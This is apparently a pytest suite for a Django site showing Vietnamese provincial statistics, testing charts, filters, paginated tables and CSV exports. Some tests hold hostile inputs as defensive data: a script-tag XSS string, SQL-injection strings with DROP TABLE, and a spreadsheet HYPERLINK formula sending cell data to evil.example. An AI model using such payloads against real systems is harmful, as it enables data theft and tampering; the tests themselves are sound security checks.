import codecs
import csv
import datetime
import io

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from indicators.downloads import csv_parts
from indicators.paging import AreaPaginator
from people.exports import safe_cell
from people.periods import years
from tests.factories import (
    AreaFactory,
    IndicatorFactory,
    MeetingFactory,
    ReportedValueFactory,
    draft_meeting,
)

pytestmark = pytest.mark.django_db


def test_indicator_page_has_table_and_svg_chart_of_published_values(client):
    indicator = IndicatorFactory(name="Tỷ trọng công nghiệp trong GRDP")
    ReportedValueFactory(indicator=indicator, value="58.4", area=AreaFactory(name="Thái Nguyên"))
    ReportedValueFactory(indicator=indicator, value="77.7", meeting=draft_meeting())

    response = client.get(indicator.get_absolute_url())

    html = response.content.decode()
    assert "58,4 %" in html
    assert "77,7" not in html
    assert "<svg" in html and 'class="chart__bar"' in html
    assert reverse("indicators:csv", args=[indicator.slug]) in html
    assert len(response.context["chart"]["bars"]) == 1


def test_chart_bars_are_scaled_to_the_axis_from_zero(client):
    indicator = IndicatorFactory()
    ReportedValueFactory(indicator=indicator, value="50")
    ReportedValueFactory(indicator=indicator, value="100")
    chart = client.get(indicator.get_absolute_url()).context["chart"]
    half, whole = sorted(bar.width for bar in chart["bars"])
    assert whole == 2 * half
    assert [tick.label for tick in chart["ticks"]] == ["0", "25", "50", "75", "100"]
    assert chart["bars"][0].x == chart["zero"] == chart["ticks"][0].x


def test_csv_download(client):
    indicator = IndicatorFactory()
    ReportedValueFactory(indicator=indicator, value="954964", unit="tỷ đồng")
    ReportedValueFactory(indicator=indicator, value="1", meeting=draft_meeting())

    response = client.get(reverse("indicators:csv", args=[indicator.slug]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert len(rows) == 2
    assert rows[1][5] == "954964" and rows[1][6] == "tỷ đồng"


def test_indicator_reported_only_in_drafts_is_404(client):
    value = ReportedValueFactory(meeting=draft_meeting())
    assert client.get(value.indicator.get_absolute_url()).status_code == 404
    assert client.get(reverse("indicators:csv", args=[value.indicator.slug])).status_code == 404


def test_hostile_names_are_escaped_in_the_table_and_the_svg(client):
    hostile = '<script>alert("x")</script>'
    value = ReportedValueFactory(
        indicator=IndicatorFactory(name=hostile), area=AreaFactory(name=hostile)
    )
    # Saving keeps the text as typed; write it raw as well, as any other path to the table might.
    with connection.cursor() as cursor:
        cursor.execute("UPDATE people_area SET name = %s WHERE id = %s", [hostile, value.area_id])
    html = client.get(value.indicator.get_absolute_url()).content.decode()
    assert hostile not in html
    assert "&lt;script&gt;" in html


# The page at scale: filters, pagination, a bounded chart, a filtered CSV.


def figure(indicator, area, year, value="10", **kwargs):
    start, end, _precision = years(year)
    kwargs.setdefault("meeting", MeetingFactory(area=area))
    return ReportedValueFactory(
        indicator=indicator, area=area, period_start=start, period_end=end, value=value, **kwargs
    )


def page(client, indicator, **params):
    return client.get(indicator.get_absolute_url(), params)


def csv_rows(response):
    """The rows of a CSV response, which must open with a UTF-8 byte-order mark."""
    assert response.streaming
    content = response.getvalue()
    assert content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def bar_labels(response):
    return [(bar.label, bar.figure) for bar in response.context["chart"]["bars"]]


@pytest.fixture
def provinces():
    """One indicator reported for two provinces over three years."""
    indicator = IndicatorFactory(name="Tốc độ tăng trưởng GRDP")
    bac_ninh, thai_nguyen = AreaFactory(name="Bắc Ninh"), AreaFactory(name="Thái Nguyên")
    for year, value in [(2021, "6.1"), (2022, "6.5"), (2023, "7.2")]:
        figure(indicator, thai_nguyen, year, value)
    for year, value in [(2021, "5.1"), (2022, "5.4")]:
        figure(indicator, bac_ninh, year, value)
    return indicator, bac_ninh, thai_nguyen


def test_area_filter_lists_that_area_and_charts_it_over_time(client, provinces):
    indicator, bac_ninh, thai_nguyen = provinces

    response = page(client, indicator, area=thai_nguyen.slug)

    assert response.status_code == 200
    assert [v.area for v in response.context["values"]] == [thai_nguyen] * 3
    assert response.context["paginator"].count == 3
    chart = response.context["chart"]
    assert chart["over_time"] and chart["area"] == "Thái Nguyên"
    assert bar_labels(response) == [("2021", "6,1 %"), ("2022", "6,5 %"), ("2023", "7,2 %")]
    html = response.content.decode()
    assert "3 số liệu" in html
    assert "Tốc độ tăng trưởng GRDP tại Thái Nguyên theo thời gian" in html


def test_without_an_area_the_chart_is_the_latest_figure_of_each_area(client, provinces):
    indicator, bac_ninh, thai_nguyen = provinces

    response = page(client, indicator)

    assert response.context["paginator"].count == 5
    assert not response.context["chart"]["over_time"]
    assert bar_labels(response) == [("Bắc Ninh · 2022", "5,4 %"), ("Thái Nguyên · 2023", "7,2 %")]
    assert "Số liệu mới nhất về Tốc độ tăng trưởng GRDP của từng địa bàn" in (
        response.content.decode()
    )


def test_a_year_compares_the_areas_in_that_year(client, provinces):
    indicator, bac_ninh, thai_nguyen = provinces

    response = page(client, indicator, year_from=2021, year_to=2021)

    assert [v.value_display for v in response.context["values"]] == ["5,1", "6,1"]
    assert bar_labels(response) == [("Bắc Ninh · 2021", "5,1 %"), ("Thái Nguyên · 2021", "6,1 %")]


def test_years_from_and_to_bound_the_table(client, provinces):
    indicator, _bac_ninh, thai_nguyen = provinces

    since = page(client, indicator, year_from=2022).context["values"]
    until = page(client, indicator, area=thai_nguyen.slug, year_to=2022).context["values"]

    assert [(v.area.name, v.period_end.year) for v in since] == [
        ("Bắc Ninh", 2022),
        ("Thái Nguyên", 2022),
        ("Thái Nguyên", 2023),
    ]
    assert [v.period_end.year for v in until] == [2021, 2022]


def test_an_indicator_of_one_area_is_charted_over_time(client):
    indicator, area = IndicatorFactory(), AreaFactory(name="Thái Nguyên")
    figure(indicator, area, 2023, "58.4")
    figure(indicator, area, 2023, "52", qualifier="trên")
    figure(indicator, area, 2018, "40")

    chart = page(client, indicator).context["chart"]

    assert chart["over_time"] and chart["area"] == "Thái Nguyên"
    labels = [bar.label for bar in chart["bars"]]
    assert labels[0] == "2018"
    # Two bars of 2023 (other qualifiers): each says which meeting reported it.
    for bar in chart["bars"][1:]:
        assert bar.label == f"2023 · báo cáo {bar.reported}" and bar.reported
    assert sorted(bar.figure for bar in chart["bars"][1:]) == ["58,4 %", "trên 52 %"]


def test_the_chart_draws_the_latest_report_of_a_period(client):
    indicator, area = IndicatorFactory(), AreaFactory()
    figure(indicator, area, 2023, "7.0", meeting=MeetingFactory(date=datetime.date(2024, 1, 5)))
    figure(indicator, area, 2023, "7.3", meeting=MeetingFactory(date=datetime.date(2024, 8, 5)))
    figure(indicator, area, 2023, "6.9", meeting=MeetingFactory(date=datetime.date(2024, 3, 5)))

    response = page(client, indicator, area=area.slug)

    assert bar_labels(response) == [("2023", "7,3 %")]
    assert response.context["paginator"].count == 3  # the table keeps every report


def test_the_chart_stays_bounded(client, monkeypatch):
    monkeypatch.setattr("indicators.views.MAX_BARS", 3)
    indicator, area = IndicatorFactory(), AreaFactory()
    for year in range(2015, 2021):
        figure(indicator, area, year)
        figure(indicator, AreaFactory(), year)

    across = page(client, indicator).context["chart"]
    over_time = page(client, indicator, area=area.slug)

    assert len(across["bars"]) == 3 and across["truncated"]
    assert [bar.label for bar in over_time.context["chart"]["bars"]] == ["2018", "2019", "2020"]
    assert "Chỉ vẽ 3 thanh gần nhất" in over_time.content.decode()


def test_negative_figures_are_drawn_apart(client):
    indicator, area = IndicatorFactory(), AreaFactory()
    figure(indicator, area, 2022, "-1.5")
    figure(indicator, area, 2023, "2")

    html = page(client, indicator).content.decode()

    assert html.count('class="chart__bar chart__bar--negative"') == 1
    assert html.count('class="chart__bar"') == 1


def test_the_bars_say_when_they_mix_units(client):
    indicator = IndicatorFactory()
    figure(indicator, AreaFactory(), 2023, "954964", unit="tỷ đồng")
    figure(indicator, AreaFactory(), 2023, "8.3")

    html = page(client, indicator).content.decode()

    assert "Các thanh có đơn vị khác nhau (%, tỷ đồng)" in html


def test_area_choices_are_the_areas_with_published_figures_for_this_indicator(client, provinces):
    indicator, bac_ninh, thai_nguyen = provinces
    only_in_a_draft = AreaFactory(name="Hà Giang")
    figure(indicator, only_in_a_draft, 2023, meeting=draft_meeting(area=only_in_a_draft))
    figure(IndicatorFactory(), AreaFactory(name="Cao Bằng"), 2023)

    response = page(client, indicator)

    choices = list(response.context["filter"].form.fields["area"].choices)
    assert choices == [
        ("", "Tất cả"),
        (bac_ninh.slug, "Bắc Ninh"),
        (thai_nguyen.slug, "Thái Nguyên"),
    ]
    assert page(client, indicator, area=only_in_a_draft.slug).status_code == 400


def test_pagination_keeps_the_filters(client):
    indicator, area = IndicatorFactory(), AreaFactory()
    for year in range(1960, 2020):
        figure(indicator, area, year)
    figure(indicator, AreaFactory(), 2000)
    filters = {"area": area.slug, "year_from": 1961}

    first = page(client, indicator, **filters)
    second = page(client, indicator, **filters, page=2)

    assert first.context["paginator"].count == 59
    assert len(first.context["values"]) == 50
    next_link = f'href="?area={area.slug}&amp;year_from=1961&amp;page=2"'
    assert next_link in first.content.decode()
    assert [v.period_end.year for v in second.context["values"]] == list(range(2011, 2020))
    assert f'href="?area={area.slug}&amp;year_from=1961&amp;page=1"' in second.content.decode()
    assert page(client, indicator, **filters, page=3).status_code == 404


def test_the_csv_link_carries_the_filters(client, provinces):
    indicator, _bac_ninh, thai_nguyen = provinces
    csv_url = reverse("indicators:csv", args=[indicator.slug])

    html = page(client, indicator, area=thai_nguyen.slug, year_from=2022, page=1).content.decode()

    json_url = reverse("indicators:json", args=[indicator.slug])
    assert f'href="{csv_url}?area={thai_nguyen.slug}&amp;year_from=2022"' in html
    assert f'href="{json_url}?area={thai_nguyen.slug}&amp;year_from=2022"' in html
    assert "Tải các số liệu này về:" in html


def test_empty_filters_are_no_filter(client, provinces):
    """What the form sends when the reader leaves every field at "All"."""
    indicator, *_ = provinces

    response = page(client, indicator, area="", year_from="", year_to="")

    assert response.status_code == 200
    assert response.context["paginator"].count == 5


BAD_FILTERS = [
    ({"year_from": "hai nghìn"}, "year_from", "Nhập một số tổng thể."),
    ({"year_from": "2020.5"}, "year_from", "Nhập một số tổng thể."),
    ({"year_to": "1e3"}, "year_to", "Nhập một số tổng thể."),
    ({"year_from": str(10**20)}, "year_from", "2100"),
    ({"year_to": "9" * 5000}, "year_to", "Nhập một số tổng thể."),
    ({"year_from": "1800"}, "year_from", "1900"),
    ({"year_from": "2023", "year_to": "2020"}, "__all__", "Năm đầu (2023) sau năm cuối (2020)."),
    ({"area": "khong-co-tinh-nay"}, "area", "khong-co-tinh-nay"),
    ({"area": '<script>alert("x")</script>'}, "area", "&lt;script&gt;"),
    ({"area": "' OR 1=1 --"}, "area", "&#x27; OR 1=1 --"),
    ({"year_to": "2020; DROP TABLE indicators_reportedvalue"}, "year_to", "Nhập"),
    ({"area": "thai-nguyen\x00"}, "area", "không phải là một trong các lựa chọn"),
]


@pytest.mark.parametrize(("params", "field", "message"), BAD_FILTERS)
def test_bad_filters_are_a_400_with_a_message(client, provinces, params, field, message):
    indicator, *_ = provinces

    response = page(client, indicator, **params)

    assert response.status_code == 400
    assert field in response.context["filter"].form.errors
    html = response.content.decode()
    assert message in html
    assert "Một số bộ lọc không dùng được" in html
    assert "<script>alert" not in html
    assert response.context["chart"] is None
    assert not response.context["values"]


@pytest.mark.parametrize(("params", "field", "message"), BAD_FILTERS)
def test_bad_filters_refuse_the_csv(client, provinces, params, field, message):
    indicator, *_ = provinces

    response = client.get(reverse("indicators:csv", args=[indicator.slug]), params)

    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert field in response.content.decode()


def test_the_csv_honours_the_filters_with_the_same_columns(client, provinces):
    indicator, _bac_ninh, thai_nguyen = provinces
    url = reverse("indicators:csv", args=[indicator.slug])

    everything = csv_rows(client.get(url))
    filtered = csv_rows(client.get(url, {"area": thai_nguyen.slug, "year_from": 2022}))

    header = [
        "indicator",
        "area",
        "period_start",
        "period_end",
        "qualifier",
        "value",
        "unit",
        "rank",
        "resolution",
        "meeting_url",
        "meeting_date",
        "source_sentence",
        "value_as_printed",
        "illustrative",
    ]
    assert everything[0] == filtered[0] == header
    assert len(everything) == 6
    assert [(row[1], row[2], row[3], row[5]) for row in filtered[1:]] == [
        ("Thái Nguyên", "2022-01-01", "2022-12-31", "6.5"),
        ("Thái Nguyên", "2023-01-01", "2023-12-31", "7.2"),
    ]
    assert filtered[1][0] == "Tốc độ tăng trưởng GRDP"
    assert filtered[1][9].startswith("http://testserver/meetings/")


def test_the_csv_streams_every_matching_row(client, monkeypatch):
    monkeypatch.setattr("indicators.views.CSV_ROWS_PER_CHUNK", 7)
    indicator, area = IndicatorFactory(), AreaFactory()
    values = [figure(indicator, area, year) for year in range(1990, 2020)]

    response = client.get(reverse("indicators:csv", args=[indicator.slug]))

    chunks = list(response.streaming_content)
    assert len(chunks) == 5  # 31 lines in chunks of 7
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert [row[9] for row in rows[1:]] == [
        f"http://testserver{value.meeting.get_absolute_url()}" for value in values
    ]


# The CSV in parts of whole areas, each of at most CSV_ROWS_PER_PART figures.


@pytest.mark.parametrize(
    ("figures", "expected"),
    [
        ((3, 3, 5, 1), [((1, 2), 6), ((3, None), 6)]),
        ((9, 1, 1, 1), [((1,), 9), ((2, 3, None), 3)]),
        ((1, 1, 1, 0), [((1, 2, 3, None), 3)]),
    ],
    ids=["packed-in-order", "a-big-area-alone", "one-part"],
)
def test_csv_parts_pack_whole_areas_in_order(monkeypatch, figures, expected):
    monkeypatch.setattr("indicators.downloads.CSV_ROWS_PER_PART", 6)
    names = [(1, "An Giang"), (2, "Bắc Ninh"), (3, "Cà Mau"), (None, "")]

    parts = csv_parts([(pk, name, n) for (pk, name), n in zip(names, figures, strict=True)])

    assert [(part.area_ids, part.figures) for part in parts] == expected
    assert [part.number for part in parts] == list(range(1, len(expected) + 1))
    assert {part.count for part in parts} == {len(expected)}


def test_csv_parts_of_nothing_is_one_empty_part():
    (part,) = csv_parts([])
    assert (part.number, part.count, part.area_ids, part.figures) == (1, 1, (), 0)
    assert part.file_name("x") == "x.csv"


@pytest.fixture
def parted(monkeypatch):
    """Four areas of 2, 3, 1 and 2 figures and one figure of no area, in parts of 4."""
    monkeypatch.setattr("indicators.downloads.CSV_ROWS_PER_PART", 4)
    indicator = IndicatorFactory()
    for name, n in [("Cà Mau", 1), ("An Giang", 2), ("Đà Nẵng", 2), ("Bắc Ninh", 3)]:
        area = AreaFactory(name=name)
        for year in range(2020, 2020 + n):
            figure(indicator, area, year)
    figure(indicator, None, 2021)
    return indicator


def test_every_figure_is_in_exactly_one_part_in_the_tables_order(client, parted):
    url = reverse("indicators:csv", args=[parted.slug])

    responses = [client.get(url, {"part": n}) for n in (1, 2, 3)]

    parts = [csv_rows(response) for response in responses]
    assert [[row[1] for row in rows[1:]] for rows in parts] == [
        ["An Giang", "An Giang"],
        ["Bắc Ninh", "Bắc Ninh", "Bắc Ninh", "Cà Mau"],
        ["Đà Nẵng", "Đà Nẵng", ""],
    ]
    assert {tuple(rows[0]) for rows in parts} == {tuple(parts[0][0])}
    assert [r["Content-Disposition"] for r in responses] == [
        f'attachment; filename="{parted.slug}-part-{n}-of-3.csv"' for n in (1, 2, 3)
    ]
    assert client.get(url, {"part": 4}).status_code == 404


def test_a_part_links_to_its_neighbours_with_the_filters(client, parted):
    url = reverse("indicators:csv", args=[parted.slug])

    first = client.get(url, {"year_from": 2020})
    middle = client.get(url, {"year_from": 2020, "part": 2})

    assert first["Link"] == f'<{url}?year_from=2020&part=2>; rel="next"'
    assert middle["Link"] == (
        f'<{url}?year_from=2020&part=1>; rel="prev", <{url}?year_from=2020&part=3>; rel="next"'
    )
    assert csv_rows(first) == csv_rows(client.get(url, {"year_from": 2020, "part": 1}))


def test_one_area_chosen_is_one_part(client, parted):
    bac_ninh = parted.values.get(area__name="Bắc Ninh", period_start__year=2020).area
    url = reverse("indicators:csv", args=[parted.slug])

    response = client.get(url, {"area": bac_ninh.slug})

    assert len(csv_rows(response)) == 4
    assert response["Content-Disposition"] == f'attachment; filename="{parted.slug}.csv"'
    assert not response.has_header("Link")


def test_pages_read_through_the_tallies_are_those_of_sorting_every_figure(
    client, parted, monkeypatch
):
    monkeypatch.setattr("indicators.views.IndicatorDetailView.paginate_by", 3)

    def pages(**params):
        responses = [page(client, parted, page=n, **params) for n in (1, 2, 3)]
        return [[v.pk for v in r.context["values"]] for r in responses], responses[0]

    tallied, first = pages()
    sorted_all, first_with_years = pages(year_from=1900)  # years: no tallies, every row sorted

    everything = parted.values.public().by_area_and_period().values_list("pk", flat=True)
    assert isinstance(first.context["paginator"], AreaPaginator)
    assert not isinstance(first_with_years.context["paginator"], AreaPaginator)
    assert tallied == sorted_all == [list(everything[i : i + 3]) for i in (0, 3, 6)]
    assert [v.area.name for v in page(client, parted, page=2).context["values"]] == [
        "Bắc Ninh",
        "Bắc Ninh",
        "Cà Mau",
    ]
    assert page(client, parted, page=4).status_code == 404


@pytest.mark.parametrize("part", ["0", "-1", "x", "1.5", "", "٣", "9" * 40, "1; DROP TABLE"])
def test_a_part_that_does_not_exist_is_a_clear_404(client, parted, part):
    response = client.get(reverse("indicators:csv", args=[parted.slug]), {"part": part})

    assert response.status_code == 404
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "các phần từ 1 đến 3" in response.content.decode()  # "parts 1 to 3"


def test_the_page_offers_each_part_with_its_provinces(client, parted):
    html = page(client, parted).content.decode()

    url = reverse("indicators:csv", args=[parted.slug])
    assert f'href="{url}?part=1" download>1 (An Giang)</a>' in html
    assert f'href="{url}?part=2" download>2 (Bắc Ninh – Cà Mau)</a>' in html
    assert f'href="{url}?part=3" download>3 (Đà Nẵng – không thuộc tỉnh nào)</a>' in html


# Drafts and scheduled meetings are the public's boundary.


def test_unpublished_figures_appear_nowhere(client):
    indicator = IndicatorFactory()
    public_area, draft_area = AreaFactory(name="Bắc Ninh"), AreaFactory(name="Hà Giang")
    figure(
        indicator, public_area, 2022, "5", meeting=MeetingFactory(date=datetime.date(2023, 3, 1))
    )
    # Larger and later than the published figure: it would be the area's latest if it leaked.
    figure(indicator, public_area, 2024, "777", meeting=draft_meeting())
    figure(indicator, draft_area, 2024, "888", meeting=draft_meeting())
    scheduled = MeetingFactory(published_at=timezone.now() + datetime.timedelta(days=1))
    figure(indicator, draft_area, 2024, "999", meeting=scheduled)

    response = page(client, indicator)
    html = response.content.decode()
    rows = csv_rows(client.get(reverse("indicators:csv", args=[indicator.slug])))

    assert response.context["paginator"].count == 1
    assert [v.value_display for v in response.context["values"]] == ["5"]
    assert bar_labels(response) == [("2022", "5 %")]
    assert list(response.context["filter"].form.fields["area"].choices)[1:] == [
        (public_area.slug, "Bắc Ninh")
    ]
    for leaked in ["777", "888", "999", "Hà Giang", "2024"]:
        assert leaked not in html
    assert [row[5] for row in rows[1:]] == ["5"]
    data = client.get(reverse("indicators:json", args=[indicator.slug])).json()
    assert [(f["value"], f["area"]) for f in data["figures"]] == [("5", "Bắc Ninh")]
    assert page(client, indicator, area=draft_area.slug).status_code == 400
    assert page(client, indicator, year_from=2024).context["paginator"].count == 0
    assert (
        len(
            csv_rows(
                client.get(reverse("indicators:csv", args=[indicator.slug]), {"year_from": 2024})
            )
        )
        == 1
    )


# Queries: the same few whatever the indicator holds.

# Indicator, area choices, the count, the page of rows, the chart. The count is read from the
# tallies (two queries: they and the figures published for later) unless years narrow it; a
# chart of several areas asks for the ids of each one's latest figure first (one more).
# The CSV's parts are sized from the same tallies, read once (with years, two queries more).
PAGE_QUERIES = {"tallied": 6, "years": 7}
# Indicator, area choices, the tallies and the figures published for later (the parts), the
# rows (one server-side cursor on PostgreSQL).
CSV_QUERIES = 5


@pytest.mark.parametrize("n", [1, 120])
@pytest.mark.parametrize("filtered", [False, True], ids=["all", "one-area"])
def test_page_queries_are_bounded(client, django_assert_num_queries, n, filtered):
    indicator, area = IndicatorFactory(), AreaFactory()
    for i in range(n):
        figure(indicator, area if i % 2 else AreaFactory(), 1950 + i % 70)
    params = {"area": area.slug, "year_from": 1950, "page": 1} if filtered and n > 1 else {}

    several_areas = n > 1 and not params
    with django_assert_num_queries(PAGE_QUERIES["years" if params else "tallied"] + several_areas):
        response = page(client, indicator, **params)

    assert response.status_code == 200
    assert len(response.context["values"]) == min(n if not params else n // 2, 50)


@pytest.mark.parametrize("n", [1, 120])
def test_csv_queries_are_bounded(client, django_assert_num_queries, n):
    indicator, area = IndicatorFactory(), AreaFactory()
    for i in range(n):
        figure(indicator, area if i % 2 else AreaFactory(), 1950 + i % 70)

    with django_assert_num_queries(CSV_QUERIES):
        rows = csv_rows(client.get(reverse("indicators:csv", args=[indicator.slug])))

    assert len(rows) == n + 1


def test_a_bad_filter_costs_two_queries(client, django_assert_num_queries, provinces):
    indicator, *_ = provinces
    with django_assert_num_queries(2):  # indicator, area choices
        assert page(client, indicator, year_from="x").status_code == 400


# The CSV opens safely in a spreadsheet.

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'


def test_the_csv_neutralises_formulas_and_carries_the_meeting_date(client):
    indicator = IndicatorFactory(name=FORMULA)
    meeting = MeetingFactory(date=datetime.date(2024, 5, 10), date_precision="day")
    area = AreaFactory(name="@SUM(1+1)")
    ReportedValueFactory(
        indicator=indicator, meeting=meeting, area=area, value="-1.5", source_sentence=FORMULA
    )
    month = MeetingFactory(date=datetime.date(2023, 7, 1), date_precision="month")
    ReportedValueFactory(indicator=indicator, meeting=month, area=area, value="-3.2", unit="-%")

    header, *rows = csv_rows(client.get(reverse("indicators:csv", args=[indicator.slug])))

    table = [dict(zip(header, row, strict=True)) for row in rows]
    table.sort(key=lambda row: row["meeting_date"])
    assert [row["meeting_date"] for row in table] == ["2023-07", "2024-05-10"]
    assert {row["indicator"] for row in table} == {"'" + FORMULA}
    assert {row["area"] for row in table} == {"'@SUM(1+1)"}
    assert table[1]["source_sentence"] == "'" + FORMULA
    assert [row["value"] for row in table] == ["-3.2", "-1.5"]  # plain numbers stay numbers
    assert table[0]["unit"] == "'-%"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-1,5", "-1,5"),
        ("-3.2", "-3.2"),
        ("+5", "+5"),
        ("-", "'-"),
        ("@user", "'@user"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("tỷ lệ =50%", "tỷ lệ =50%"),
        (None, ""),
        (12, "12"),
    ],
)
def test_safe_cell(cell, written):
    assert safe_cell(cell) == written
